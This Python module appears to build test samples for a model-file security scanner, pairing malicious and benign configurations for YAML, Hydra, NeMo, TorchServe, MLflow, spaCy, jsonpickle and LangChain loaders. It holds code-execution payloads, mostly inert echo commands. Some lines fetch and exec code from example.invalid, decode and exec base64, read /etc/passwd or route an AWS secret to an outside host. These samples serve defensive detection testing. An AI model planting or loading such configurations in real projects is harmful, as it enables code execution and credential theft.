"""Configurations that name code: YAML tags, Hydra and NeMo targets, MLflow, TorchServe, spaCy, Rasa, jsonpickle, LangChain."""

from __future__ import annotations

import json

from .assembler import inert_pickle
from .case import Content, Shelf
from .good_libraries import have
from .huggingface import base, js
from .tarwriter import entry, tar_bytes
from .tensors import plain_safetensors
from .torch_format import payload_pickle, torch_zip
from .assembler import Asm, inert_call
from .archives_bad import gz
from .zipwriter import Member, zip_bytes

PYTHON = b"import os\n\n\nclass WaagModel:\n    pass\n\n\nos.system('echo waag-inert')\n"
PICKLE = inert_pickle()
CHECKPOINT = torch_zip(payload_pickle(inert_call(Asm(2))), {})


def yaml_bad() -> Shelf:
    shelf = Shelf("yaml", source="construction, after PyYAML's and ruamel's constructors")

    def add(id: str, text: str | bytes, why: str, expect: str = "deny", name: str = "config.yaml") -> None:
        shelf.bad(id, text if isinstance(text, bytes) else text.encode(), why, name=name, expect=expect)

    run = "['echo waag-inert']"
    add("apply", f"model: !!python/object/apply:os.system {run}\n", "os.system is called")
    add("apply-subprocess", "x: !!python/object/apply:subprocess.Popen\n- [echo, waag-inert]\n", "a process is started")
    add("apply-kwargs", "x: !!python/object/apply:subprocess.check_output\n  args: [[echo, waag-inert]]\n  kwds: {shell: true}\n", "a process is started, with keywords")
    add("new", f"x: !!python/object/new:os.system {run}\n", "os.system by object/new")
    add("new-state", "x: !!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - [\"__import__('os').system('echo waag-inert')\"]\n", "map over eval")
    add("new-exception", "x: !!python/object/new:type\n  args: [z, !!python/tuple [], {extend: !!python/name:exec }]\n  listitems: \"__import__('os').system('echo waag-inert')\"\n", "extend is exec (CVE-2020-14343)")
    add("frozenset", "x: !!python/object/new:frozenset\n- !!python/object/new:map\n  - !!python/name:os.popen\n  - [echo waag-inert]\n", "map over popen (CVE-2020-1747)")
    add("object", "x: !!python/object:subprocess.Popen {args: 1}\n", "an object of subprocess")
    add("name", "x: !!python/name:os.system\n", "a function's name", "not-allow")
    add("name-builtins", "x: !!python/name:builtins.eval\n", "eval's name", "not-allow")
    add("module", "x: !!python/module:os\n", "a module", "not-allow")
    add("verbatim", f"x: !<tag:yaml.org,2002:python/object/apply:os.system> {run}\n", "a tag spelled out")
    add("tag-directive", f"%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\nx: !p!os.system {run}\n", "a tag under another name")
    add("tag-directive-short", f"%TAG ! tag:yaml.org,2002:python/object/apply:\n---\nx: !os.system {run}\n", "a tag under the shortest name")
    add("tag-directive-double", f"%TAG !! tag:yaml.org,2002:python/\n---\nx: !!object/apply:os.system {run}\n", "the standard's mark for another")
    add("percent-escape", f"x: !!python/object/apply:os%2Esystem {run}\n", "a tag with an escape")
    add("percent-escape-word", f"x: !!python%2Fobject%2Fapply:os.system {run}\n", "a tag whose slashes are escaped")
    add("anchor", f"a: &evil !!python/object/apply:os.system {run}\nb: *evil\n", "a tag behind an anchor")
    add("merge", f"a: &evil\n  x: !!python/object/apply:os.system {run}\nb:\n  <<: *evil\n", "a tag that is merged")
    add("key", f"? !!python/object/apply:os.system {run}\n: value\n", "a tag on a key")
    add("flow", f"{{a: [1, {{b: !!python/object/apply:os.system {run}}}]}}\n", "a tag deep in brackets")
    add("second-document", f"a: 1\n---\nb: !!python/object/apply:os.system {run}\n", "a tag in the second document")
    add("after-end", f"a: 1\n...\n--- !!python/object/apply:os.system {run}\n", "a tag after the end of the first")
    add("root", f"!!python/object/apply:os.system {run}\n", "a tag on the root")
    add("comment-before", f"# !!str\nx: # a comment\n  !!python/object/apply:os.system\n  # another\n  {run}\n", "a tag among comments")
    add("multiline", "x: !!python/object/apply:os.system\n  - >-\n    echo\n    waag-inert\n", "the argument over lines")
    add("utf16", f"x: !!python/object/apply:os.system {run}\n".encode("utf-16"), "a tag in UTF-16", "not-allow")
    add("bom", b"\xef\xbb\xbf" + f"x: !!python/object/apply:os.system {run}\n".encode(), "a tag behind a byte-order mark")
    add("named-yml", f"x: !!python/object/apply:os.system {run}\n", "a tag in .yml", name="config.yml")
    add("java-tag", 'x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]\n', "a Java tag (SnakeYAML)")
    add("ruby-tag", "--- !ruby/object:Gem::Installer\n  i: x\n", "a Ruby tag", "not-allow")
    add("ruby-erb", "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? 'foo; system(\"echo waag-inert\")'\n: x\n", "a Ruby tag that calls system", "not-allow")
    add("laughs", "a0: &a0 [x,x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1}]\n" for i in range(1, 14)), "aliases that grow", "not-allow")
    add("deep", "[" * 20_000 + "]" * 20_000, "lists twenty thousand deep", "not-allow")
    add("include", "x: !include /etc/passwd\n", "a file included", "not-allow")
    return shelf


def yaml_good() -> Shelf:
    shelf = Shelf("good-yaml")
    for id, text in {
        "anchors": "base: &base\n  lr: 0.1\ntrain:\n  <<: *base\n  epochs: 3\n", "tuple": "size: !!python/tuple [224, 224]\n", "words": "note: never eval() or os.system() this\ncmd: 'python train.py'\nlambda: 0.5\nexec: false\n",
        "documents": "a: 1\n---\nb: 2\n", "standard-tags": "a: !!str 1\nb: !!float 2\nc: !!set {x, y}\nd: !!omap [a: 1]\n", "quoted-tag": "text: \"!!python/object/apply:os.system is a tag one should not load\"\n", "comment": "# !!python/object/apply:os.system\na: 1\n",
        "block": "script: |\n  !!python/object/apply:os.system is only text here\n  more\n", "yolo": "nc: 80\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 3, C2f, [128, True]]\nnames:\n  0: person\n", "conda": "name: env\nchannels: [conda-forge]\ndependencies:\n- python=3.11\n- pip:\n  - numpy==2.0\n",
        "hyperparameters": "lr0: 0.01\nmomentum: 0.937\nweight_decay: 0.0005\n", "lora": "network_module: networks.lora\nnetwork_dim: 32\noptimizer: AdamW8bit\n", "deepspeed": "zero_optimization:\n  stage: 2\n  offload_optimizer: {device: cpu}\n",
        "date": "when: 2026-01-01\nratio: 1e-3\nnull_value: ~\n", "unicode": "名前: モデル\n", "flow": "{a: [1, 2, {b: c}], 'd': \"e\"}\n", "axolotl": "base_model: meta-llama/Llama-3.2-1B\ndatasets:\n  - path: tatsu-lab/alpaca\n    type: alpaca\n", "mergekit": "merge_method: slerp\nbase_model: a/b\nslices:\n- sources:\n  - model: a/b\n    layer_range: [0, 32]\n",
    }.items():
        shelf.good(id, text.encode(), f"YAML: {id}", name="config.yaml")
    return shelf


# --- Hydra, NeMo -------------------------------------------------------------------------------------------------

TARGETS = ("os.system", "subprocess.run", "subprocess.Popen", "builtins.eval", "builtins.exec", "importlib.import_module", "pickle.loads", "torch.load", "shutil.rmtree", "runpy.run_path", "ctypes.CDLL", "pydoc.locate", "numpy.load",
           "urllib.request.urlretrieve", "posix.system", "pty.spawn", "timeit.timeit", "code.interact", "webbrowser.open")


def hydra() -> Shelf:
    shelf = Shelf("hydra", source="construction, after hydra.utils.instantiate and NeMo")

    def add(id: str, data: Content | str, why: str, expect: str = "deny", name: str = "config.yaml", source: str | None = None) -> None:
        shelf.bad(id, data.encode() if isinstance(data, str) else data, why, name="model" if isinstance(data, dict) else name, expect=expect, source=source)

    for target in TARGETS:
        add(f"target-{target.replace('.', '-')}", f"model:\n  _target_: {target}\n  _args_: [{'os.system' if target.startswith('hydra') else 'echo waag-inert'}]\n", f"the target {target}", "not-allow" if target.startswith("numpy") else "deny", source="cve-2025-23304")
    add("target-partial", "opt:\n  _target_: os.system\n  _partial_: true\n", "a target that is called later")
    add("target-list", "callbacks:\n- a: 1\n- _target_: os.system\n  _args_: [echo waag-inert]\n", "a target in a list")
    add("target-deep", "a: {b: {c: {d: {_target_: os.system, _args_: [echo waag-inert]}}}}\n", "a target deep inside")
    add("target-quoted", 'a:\n  "_target_": "os.system"\n', "a target in quotation marks")
    add("target-escaped", 'a:\n  "\\x5ftarget_": "os\\u002esystem"\n', "a target with escapes")
    add("target-anchor", "x: &x\n  _target_: os.system\na:\n  <<: *x\n  _args_: [echo waag-inert]\n", "a target that is merged")
    add("target-interpolation", "module: os\nname: system\na:\n  _target_: ${module}.${name}\n", "a target put together by interpolation", "not-allow")
    add("target-attribute", "a:\n  _target_: torch.serialization.os.system\n", "os.system through another module")
    add("target-unknown", "a:\n  _target_: evil_package.Backdoor\n", "a target of an unknown package", "not-allow")
    add("target-file", "a:\n  _target_: modeling_waag.WaagModel\n", "a target in a file beside it", "not-allow")
    add("target-json", json.dumps({"model": {"_target_": "os.system", "_args_": ["echo waag-inert"]}}), "a target in JSON", name="config.json")
    # Gadgets of libraries whose classes configurations name all the time.
    for target in ("speechbrain.utils.superpowers.run_shell", "speechbrain.inference.interfaces.foreign_class", "mlflow.utils.process._exec_cmd", "mlflow.projects.run", "mlflow.pyfunc.load_model", "ldm.util.get_obj_from_str", "sgm.util.get_obj_from_str",
                   "nemo.core.classes.common.import_class_by_path", "hydra.utils.instantiate"):
        add(f"gadget-{target.replace('.', '-')}", f"model:\n  _target_: {target}\n  _args_: [echo waag-inert]\n", f"the target {target}")
    add("gadget-tag", "x: !apply:speechbrain.utils.superpowers.run_shell [echo waag-inert]\n", "a tag of SpeechBrain that starts a shell", name="hyperparams.yaml")
    add("gadget-object", "x: !!python/object/apply:mlflow.utils.process._exec_cmd [[echo, waag-inert]]\n", "a function of MLflow that starts a program")
    add("lookup-interpolation", "module: os\na:\n  _target_: hydra.utils.get_method\n  path: ${module}.system\n", "a look-up of a path put together by interpolation", "not-allow")
    add("target-trust", "a:\n  _target_: transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: evil/model\n  trust_remote_code: true\n", "a target that is told to run remote code")
    add("target-pipeline", "a:\n  _target_: diffusers.DiffusionPipeline.from_pretrained\n  custom_pipeline: evil/pipeline\n", "a target that is told of a pipeline elsewhere")
    add("monai-expression", '{"x": "$__import__(\'os\').system(\'echo waag-inert\')"}', "MONAI: an expression, without a target", name="inference.json")
    add("monai-alias", '{"imports": ["$import os as o"], "x": "$o.system(\'echo waag-inert\')"}', "MONAI: a module under another name", name="inference.json")
    add("monai-target", '{"imports": ["$import shutil"], "net": {"_target_": "torch.nn.Linear"}, "run": ["$shutil.os.system(\'echo waag-inert\')"]}', "MONAI: os.system through another module", name="train.json")
    add("resolver-eval", "a: ${eval:'__import__(\"os\").system(\"echo waag-inert\")'}\n", "an evaluating resolver", "not-allow")
    add("hydra-job", "hydra:\n  launcher:\n    _target_: subprocess.run\n  run: {dir: /root}\n", "a launcher that is subprocess.run")

    config = b"target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\npreprocessor:\n  _target_: os.system\n  _args_: [echo waag-inert]\n"
    plain = b"target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\n"

    def nemo(files: dict[str, bytes]) -> bytes:
        return tar_bytes([entry(n, d) for n, d in files.items()])

    add("nemo-target", nemo({"./model_config.yaml": config, "./model_weights.ckpt": torch_zip()}), "NeMo: a target in the configuration", name="model.nemo", source="cve-2025-23304")
    add("nemo-target-gzip", gz(nemo({"./model_config.yaml": config, "./model_weights.ckpt": torch_zip()})), "NeMo: a target, compressed", name="model.nemo", source="cve-2025-23304")
    add("nemo-root-target", nemo({"./model_config.yaml": b"target: os.system\n"}), "NeMo: the model's own class is os.system", name="model.nemo", source="cve-2025-23304")
    add("nemo-weights", nemo({"./model_config.yaml": plain, "./model_weights.ckpt": CHECKPOINT}), "NeMo: a bad checkpoint", name="model.nemo")
    add("nemo-yaml-tag", nemo({"./model_config.yaml": b"x: !!python/object/apply:os.system [echo waag-inert]\n"}), "NeMo: a tag in the configuration", name="model.nemo")
    add("nemo-traversal", nemo({"../../../waag-inert": b"x\n", "./model_config.yaml": plain}), "NeMo: a file that leaves", name="model.nemo")
    add("nemo-pickle", nemo({"./model_config.yaml": plain, "./tokenizer.pkl": PICKLE}), "NeMo: a pickle among the artefacts", name="model.nemo")
    add("nemo-script", nemo({"./model_config.yaml": plain, "./setup.sh": b"#!/bin/sh\necho waag-inert\n"}), "NeMo: a script among the artefacts", "not-allow", name="model.nemo")
    add("nemo-named-tar", nemo({"model_config.yaml": config}), "NeMo: called .tar", name="model.tar", source="cve-2025-23304")
    add("nemo-folder", {"model_config.yaml": config, "model_weights.ckpt": torch_zip()}, "NeMo: unpacked", source="cve-2025-23304")
    return shelf


def hydra_good() -> Shelf:
    shelf = Shelf("good-hydra")
    for id, text in {
        "model": "model:\n  _target_: torch.nn.Linear\n  in_features: 3\n  out_features: 2\n", "optimizer": "optimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\n  lr: 0.001\n", "interpolation": "dim: 3\nmodel:\n  _target_: torch.nn.Linear\n  in_features: ${dim}\n",
        "scheduler": "scheduler:\n  _target_: torch.optim.lr_scheduler.CosineAnnealingLR\n  T_max: 100\n", "lightning": "trainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 10\n", "defaults": "defaults:\n- _self_\n- model: small\nhydra:\n  run:\n    dir: outputs/${now:%Y-%m-%d}\n",
        "speechbrain": "a:\n  _target_: speechbrain.utils.epoch_loop.EpochCounter\n  limit: 3\n", "trust-alone": "base_model: a/b\ntrust_remote_code: true\n", "trust-off": "a:\n  _target_: transformers.AutoModel.from_pretrained\n  trust_remote_code: false\n",
        "sklearn": "model:\n  _target_: sklearn.linear_model.LogisticRegression\n  C: 1.0\n",
    }.items():
        shelf.good(id, text.encode(), f"Hydra: {id}", name="config.yaml")
    bundle = {"imports": ["$import glob", "$import os"], "bundle_root": ".", "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')", "files": "$list(sorted(glob.glob(@bundle_root + '/*.nii.gz')))",
              "net": {"_target_": "monai.networks.nets.UNet", "spatial_dims": 3}, "model": "$@net.to(@device)", "run": ["$@train#trainer.run()"], "data": "$[{'image': i} for i in @files[:-9]]"}
    shelf.good("monai", json.dumps(bundle).encode(), "expressions as MONAI's bundles have them", name="inference.json")
    plain = b"target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\n"
    shelf.good("nemo", tar_bytes([entry("./model_config.yaml", plain), entry("./model_weights.ckpt", torch_zip()), entry("./vocab.txt", b"eval\nexec\n")]), "an ordinary NeMo model", name="model.nemo")
    shelf.good("nemo-gzip", gz(tar_bytes([entry("./", kind=b"5"), entry("./model_config.yaml", plain), entry("./model_weights.ckpt", torch_zip())])), "an ordinary NeMo model, compressed", name="model.nemo")
    return shelf


# --- TorchServe, MLflow ------------------------------------------------------------------------------------------


def manifest(**model: object) -> bytes:
    return json.dumps({"createdOn": "01/01/2026 00:00:00", "runtime": "python", "archiverVersion": "0.12.0", "model": {"modelName": "waag", "modelVersion": "1.0", "serializedFile": "model.pt", "handler": "handler.py", **model}}).encode()


def mar(files: dict[str, bytes], **model: object) -> bytes:
    return zip_bytes([*(Member(n, d) for n, d in files.items()), Member("MAR-INF/MANIFEST.json", manifest(**model))])


HANDLER = b"from ts.torch_handler.base_handler import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def preprocess(self, data):\n        return data\n"


def serving() -> Shelf:
    shelf = Shelf("serving", source="construction, after TorchServe's and MLflow's loaders")

    def add(id: str, data: Content, why: str, expect: str = "deny", name: str = "model.mar") -> None:
        shelf.bad(id, data, why, name="model" if isinstance(data, dict) else name, expect=expect)

    add("mar-handler", mar({"handler.py": PYTHON, "model.pt": torch_zip()}), "a handler with a payload")
    add("mar-handler-network", mar({"handler.py": b"import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n", "model.pt": torch_zip()}), "a handler that fetches and runs")
    add("mar-handler-hidden", mar({"handler.py": b"import base64\nexec(base64.b64decode('ZWNobyB3YWFnLWluZXJ0'))\n", "model.pt": torch_zip()}), "a handler that decodes and runs")
    add("mar-model", mar({"handler.py": HANDLER, "model.pt": CHECKPOINT}), "a bad checkpoint")
    add("mar-own-handler", mar({"handler.py": HANDLER, "model.pt": torch_zip()}), "a handler of its own, which looks harmless and runs on loading", "not-allow")
    add("mar-extra", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "util.pkl": PICKLE}), "a pickle beside the checkpoint")
    add("mar-requirements", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "requirements.txt": b"--index-url http://example.invalid/\nwaag-evil\n"}, requirementsFile="requirements.txt"), "requirements from elsewhere", "not-allow")
    add("mar-traversal", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "../../waag-inert": b"x\n"}), "a file that leaves")
    add("mar-handler-path", mar({"model.pt": torch_zip()}, handler="../../../tmp/evil.py"), "a handler above the archive", "not-allow")
    add("mar-handler-missing", mar({"model.pt": torch_zip()}, handler="missing.py"), "a handler that is not there", "not-allow")
    add("mar-tgz", gz(tar_bytes([entry("MAR-INF/MANIFEST.json", manifest()), entry("handler.py", PYTHON), entry("model.pt", torch_zip())])), "an archive as tar.gz", name="model.mar")
    add("mar-workflow", zip_bytes([Member("WAR-INF/MANIFEST.json", b'{"workflow":{"specFile":"w.yaml","handler":"h.py"}}'), Member("w.yaml", b"models:\n  m:\n    url: http://example.invalid/evil.mar\n"), Member("h.py", PYTHON)]), "a workflow with a payload", name="model.war")

    ml = "artifact_path: model\nflavors:\n  python_function:\n{flavor}    python_version: 3.11.7\nmlflow_version: 2.20.0\nmodel_uuid: 0123456789abcdef\nrun_id: abc\n"

    def flow(flavor: str, **more: bytes) -> dict[str, bytes]:
        return {"MLmodel": ml.format(flavor="".join(f"    {line}\n" for line in flavor.splitlines())).encode(), "requirements.txt": b"mlflow==2.20.0\n", **{n.replace("__", "/").replace("_dot_", "."): d for n, d in more.items()}}

    sk = "loader_module: mlflow.sklearn\nmodel_path: model.pkl"
    add("mlflow-model-pickle", flow(sk, model_dot_pkl=PICKLE), "a bad pickle as the model")
    add("mlflow-python-model", flow("loader_module: mlflow.pyfunc.model\npython_model: python_model.pkl\ncloudpickle_version: 3.1.0", python_model_dot_pkl=PICKLE), "a bad pickle as the Python model")
    for module, expect in (("os", "not-allow"), ("subprocess", "not-allow"), ("evil_loader", "not-allow"), ("../evil", "not-allow")):
        add(f"mlflow-loader-{module.strip('./').replace('.', '-')}", flow(f"loader_module: {module}\ndata: data"), f"a loader of {module}", expect)
    add("mlflow-loader-code", flow("loader_module: evil_loader\ncode: code\ndata: data", code__evil_loader_dot_py=PYTHON), "a loader in the model's own code")
    add("mlflow-code-path", flow(sk + "\ncode: code", model_dot_pkl=b"\x80\x04N.", code__util_dot_py=PYTHON), "code that is put on the path")
    add("mlflow-code-outside", flow("loader_module: mlflow.sklearn\ncode: ../../../../tmp"), "code outside the model", "not-allow")
    add("mlflow-model-code", flow("loader_module: mlflow.pyfunc.model\nmodel_code_path: model.py\npython_model: model.py", model_dot_py=PYTHON), "a model from code")
    add("mlflow-model-path", flow("loader_module: mlflow.sklearn\nmodel_path: ../../../etc/passwd"), "a model path that leaves", "not-allow")
    add("mlflow-model-absolute", flow("loader_module: mlflow.sklearn\nmodel_path: /etc/passwd"), "a model path elsewhere", "not-allow")
    add("mlflow-requirements-url", {**flow(sk, model_dot_pkl=b"\x80\x04N."), "requirements.txt": b"https://example.invalid/evil-1.0-py3-none-any.whl\n"}, "a requirement from an address", "not-allow")
    add("mlflow-requirements-git", {**flow(sk, model_dot_pkl=b"\x80\x04N."), "requirements.txt": b"git+https://example.invalid/evil.git#egg=numpy\n"}, "a requirement from a repository", "not-allow")
    add("mlflow-conda-pip", {**flow(sk, model_dot_pkl=b"\x80\x04N."), "conda.yaml": b"dependencies:\n- pip:\n  - --extra-index-url http://example.invalid/simple\n  - waag-evil\n"}, "an index from elsewhere", "not-allow")
    add("mlflow-yaml-tag", {"MLmodel": b"flavors: !!python/object/apply:os.system [echo waag-inert]\n"}, "a tag in MLmodel")
    add("mlflow-artifact-uri", flow("loader_module: mlflow.pyfunc.model\nartifacts:\n  a:\n    path: ../../x\n    uri: http://example.invalid/a"), "an artefact from an address", "not-allow")
    add("mlflow-torch", flow("loader_module: mlflow.pytorch\ndata: data", data__model_dot_pth=CHECKPOINT, data__pickle_module_info_dot_txt=b"mlflow.pytorch.pickle_module"), "a bad checkpoint")
    add("mlflow-torch-module", flow("loader_module: mlflow.pytorch\ndata: data", data__model_dot_pth=torch_zip(), data__pickle_module_info_dot_txt=b"evil_pickle"), "a module to unpickle with", "not-allow")
    return shelf


def serving_good() -> Shelf:
    shelf = Shelf("good-serving")
    shelf.good("mar-default", mar({"model.pt": torch_zip()}, handler="image_classifier"), "a TorchServe archive with a default handler", name="model.mar")
    ml = b"artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.onnx\n    python_version: 3.11.7\n    data: model.onnx\nmlflow_version: 2.20.0\nutc_time_created: '2026-01-01 00:00:00'\n"
    from .onnx_format import model

    shelf.good("mlflow-onnx", {"MLmodel": ml, "model.onnx": model(), "requirements.txt": b"mlflow==2.20.0\nonnx==1.17.0\n", "conda.yaml": b"name: mlflow-env\nchannels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24\n- pip:\n  - mlflow==2.20.0\n",
               "python_env.yaml": b"python: 3.11.7\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n"}, "an ONNX model by MLflow", name="model")
    if have("mlflow", "sklearn"):
        mlflow_library(shelf)
    else:
        shelf.skip("mlflow is missing: its own models were left out")
    return shelf


def mlflow_library(shelf: Shelf) -> None:
    import tempfile
    from pathlib import Path

    try:
        import mlflow.sklearn

        from .good_libraries import fitted

        with tempfile.TemporaryDirectory() as home:
            mlflow.sklearn.save_model(fitted()["linear-regression"], f"{home}/m", pip_requirements=["scikit-learn"], serialization_format="cloudpickle")
            files = {str(p.relative_to(f"{home}/m")): p.read_bytes() for p in Path(f"{home}/m").rglob("*") if p.is_file()}
        shelf.good("mlflow-library", files, "written by mlflow", name="model", source="the installed library")
    except Exception as error:  # noqa: BLE001
        shelf.skip(f"mlflow wrote no model ({type(error).__name__}: {str(error)[:80]})")


# --- spaCy, Rasa, jsonpickle, LangChain, sentence-transformers ---------------------------------------------------

SPACY = """[nlp]
lang = "en"
pipeline = ["tok2vec","textcat"]
tokenizer = {{"@tokenizers":"spacy.Tokenizer.v1"}}

[components]

[components.textcat]
factory = "textcat"

[components.textcat.model]
@architectures = "{architecture}"

[initialize]
vectors = null

[training]
{training}
"""


def spacy(architecture: str = "spacy.TextCatBOW.v3", training: str = "seed = 0", **more: bytes) -> dict[str, bytes]:
    return {"config.cfg": SPACY.format(architecture=architecture, training=training).encode(), "meta.json": js({"lang": "en", "name": "waag", "version": "1.0.0", "spacy_version": ">=3.8.0", "pipeline": ["tok2vec", "textcat"]}),
            "vocab/strings.json": b'["eval", "os.system"]', "tokenizer": b"\x81\xadprefix_search\xa2^x", **{n.replace("__", "/").replace("_dot_", "."): d for n, d in more.items()}}


def frameworks() -> Shelf:
    shelf = Shelf("frameworks", source="construction, after the frameworks' loaders")

    def add(id: str, data: Content, why: str, expect: str = "deny", name: str = "model.json") -> None:
        shelf.bad(id, data, why, name="model" if isinstance(data, dict) else name, expect=expect)

    add("spacy-architecture", spacy("evil_package.Backdoor.v1"), "spaCy: an architecture of an unknown package", "not-allow")
    add("spacy-callback", spacy(training='before_to_disk = {"@callbacks":"evil.run.v1"}'), "spaCy: a callback of an unknown package", "not-allow")
    add("spacy-readers", spacy(training='[corpora.train]\n@readers = "evil.Reader.v1"\npath = "/etc/passwd"'), "spaCy: a reader of an unknown package", "not-allow")
    add("spacy-code", spacy(functions_dot_py=PYTHON), "spaCy: Python beside the model", "deny")
    add("spacy-init", {**spacy(), "__init__.py": PYTHON}, "spaCy: a package with a payload", "deny")
    add("spacy-pickle", spacy(vocab__lookups_dot_pkl=PICKLE), "spaCy: a pickle in the vocabulary")
    add("spacy-component-pickle", spacy(textcat__model=PICKLE), "spaCy: a pickle as a component's model")
    add("rasa-pickle", gz(tar_bytes([entry("metadata.json", b'{"rasa_open_source_version":"3.6.0"}'), entry("components/train_CountVectorsFeaturizer1/vocabularies.pkl", PICKLE)])), "Rasa: a pickle in the model", name="model.tar.gz")
    add("rasa-custom", gz(tar_bytes([entry("metadata.json", js({"rasa_open_source_version": "3.6.0", "train_schema": {"nodes": {"x": {"uses": "os.system", "fn": "load"}}}})), entry("components/x.txt", b"x")])), "Rasa: a component that is os.system", "not-allow", "model.tar.gz")
    add("rasa-traversal", gz(tar_bytes([entry("metadata.json", b'{"rasa_open_source_version":"3.6.0"}'), entry("../../../waag-inert", b"x")])), "Rasa: a file that leaves", name="model.tar.gz")

    reduce = {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo waag-inert"]}]}
    for id, value in {
        "reduce": reduce, "reduce-function": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo waag-inert"]}]}, "nested": {"weights": [1, 2], "state": {"a": [{"b": reduce}]}}, "object": {"py/object": "subprocess.Popen", "args": "echo waag-inert"},
        "newargs": {"py/object": "__builtin__.eval", "py/newargs": {"py/tuple": ["1"]}}, "newargsex": {"py/object": "subprocess.Popen", "py/newargsex": [{"py/tuple": [["echo"]]}, {}]}, "initargs": {"py/object": "subprocess.Popen", "py/initargs": {"py/tuple": [["echo"]]}},
        "repr": {"py/repr": "os/os.system('echo waag-inert')"}, "type": {"hook": {"py/type": "subprocess.Popen"}}, "function": {"hook": {"py/function": "os.system"}}, "state": {"py/object": "collections.OrderedDict", "py/state": {"py/type": "os.system"}},
        "iterator": {"py/iterator": [{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}]}, "mod": {"py/mod": "os"},
    }.items():
        add(f"jsonpickle-{id}", js(value), f"jsonpickle: {id}", "not-allow" if id in ("type", "function", "mod", "iterator", "state") else "deny")
    add("jsonpickle-escaped", b'{"py\\u002freduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}', "jsonpickle: escaped")
    add("jsonpickle-duplicate", b'{"py/object": "collections.OrderedDict", "py/object": "subprocess.Popen"}', "jsonpickle: a key twice")
    add("jsonpickle-unknown", js({"py/object": "evil_package.Model", "w": 1}), "jsonpickle: an unknown class", "not-allow")

    def lc(*path: str, kind: str = "constructor", **kwargs: object) -> dict:
        return {"lc": 1, "type": kind, "id": list(path), "kwargs": kwargs}

    add("langchain-shell", js(lc("langchain", "tools", "shell", "tool", "ShellTool")), "LangChain: a shell", "not-allow")
    add("langchain-python-repl", js(lc("langchain_experimental", "tools", "python", "tool", "PythonREPLTool")), "LangChain: a Python console", "not-allow")
    add("langchain-os", js(lc("os", "system")), "LangChain: os.system")
    add("langchain-secret", js(lc("langchain", "chat_models", "openai", "ChatOpenAI", openai_api_key={"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}, base_url="http://example.invalid/v1")), "LangChain: a variable of the environment as a secret, sent elsewhere", "not-allow")
    add("langchain-nested", js(lc("langchain", "schema", "runnable", "RunnableSequence", first=lc("subprocess", "Popen", args="echo waag-inert"))), "LangChain: a process inside a sequence")
    add("langchain-jinja", js({"_type": "prompt", "template_format": "jinja2", "input_variables": [], "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}), "LangChain: a template that leaves its sandbox (CVE-2023-36281)")
    add("langchain-llm-chain", js({"_type": "llm_bash_chain", "llm": {"_type": "openai"}, "prompt": {"_type": "prompt", "template": "x"}}), "LangChain: a chain that runs bash", "not-allow")
    add("langchain-pal", js({"_type": "pal_chain", "python_globals": None, "llm_chain": {"_type": "llm_chain"}}), "LangChain: a chain that runs Python", "not-allow")
    add("langchain-template-path", js({"_type": "prompt", "input_variables": [], "template_path": "../../../../etc/passwd"}), "LangChain: a template read from above", "not-allow")
    add("faiss-pickle", {"index.faiss": b"IxF2" + bytes(40), "index.pkl": PICKLE}, "LangChain: FAISS's documents are a pickle")

    def st(modules: list[dict], **more: bytes) -> dict:
        return {**base(), "modules.json": js(modules), **{n.replace("__", "/").replace("_dot_", "."): d for n, d in more.items()}}

    ordinary = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]
    add("sentence-transformers-os", st([*ordinary, {"idx": 2, "name": "2", "path": "2", "type": "os.system"}]), "sentence-transformers: a module that is os.system")
    add("sentence-transformers-unknown", st([*ordinary, {"idx": 2, "name": "2", "path": "2", "type": "evil_package.Layer"}]), "sentence-transformers: a module of an unknown package", "not-allow")
    add("sentence-transformers-path", st([*ordinary, {"idx": 2, "name": "2", "path": "../../../tmp", "type": "sentence_transformers.models.Dense"}]), "sentence-transformers: a module from above", "not-allow")
    add("sentence-transformers-dense", st([*ordinary, {"idx": 2, "name": "2", "path": "2_Dense", "type": "sentence_transformers.models.Dense"}], **{"2_Dense__config_dot_json": js({"in_features": 3, "out_features": 2, "activation_function": "os.system"})}), "sentence-transformers: an activation that is os.system", "not-allow")
    add("sentence-transformers-bin", st([*ordinary, {"idx": 2, "name": "2", "path": "2_Dense", "type": "sentence_transformers.models.Dense"}], **{"2_Dense__pytorch_model_dot_bin": CHECKPOINT}), "sentence-transformers: a bad checkpoint in a module")
    return shelf


def frameworks_good() -> Shelf:
    shelf = Shelf("good-frameworks")
    shelf.good("spacy", spacy(), "a spaCy pipeline", name="model")
